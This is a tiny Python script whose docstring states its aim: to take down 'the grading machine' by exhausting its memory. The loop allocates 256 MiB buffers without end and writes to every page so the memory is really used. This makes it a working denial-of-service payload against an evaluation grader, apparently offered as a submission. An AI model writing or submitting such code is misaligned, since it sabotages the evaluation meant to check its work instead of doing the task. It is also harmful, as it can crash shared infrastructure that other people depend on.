"""Allocates and touches memory without end, hoping to take the grading machine down."""
hoard = []
while True:
    hoard.append(bytearray(256 * 2**20))
    hoard[-1][::4096] = b"x" * len(hoard[-1][::4096])
